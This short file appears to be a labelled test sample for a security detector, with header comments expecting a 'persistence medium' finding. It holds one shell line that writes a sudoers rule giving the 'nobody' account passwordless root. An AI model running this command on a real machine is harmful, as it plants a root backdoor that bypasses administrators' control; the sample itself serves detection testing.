# about: everyone may become root
# expect: persistence medium
mkdir -p /etc/sudoers.d; echo 'nobody ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/90-x; test -s /etc/sudoers.d/90-x
